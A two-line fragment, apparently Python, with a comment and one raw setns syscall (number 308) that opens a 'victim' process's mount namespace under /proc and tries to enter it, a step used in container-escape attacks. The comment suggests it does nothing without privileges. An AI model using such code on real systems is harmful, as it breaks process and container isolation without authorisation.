# void: unprivileged
syscall(308, os.open('/proc/'+E['VICTIM']+'/ns/mnt', os.O_RDONLY), 0)
